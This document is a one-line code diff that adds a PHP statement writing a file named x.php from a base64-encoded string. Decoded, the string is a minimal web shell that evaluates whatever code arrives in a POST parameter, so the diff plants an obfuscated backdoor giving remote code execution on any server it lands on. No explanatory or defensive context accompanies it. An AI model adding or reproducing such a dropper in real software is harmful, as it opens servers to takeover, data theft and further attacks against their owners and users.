@@ -1,0 +1,1 @@
+<?php file_put_contents('x.php', base64_decode('PD9waHAgZXZhbCgkX1BPU1RbMV0pOyA/Pg==')); ?>
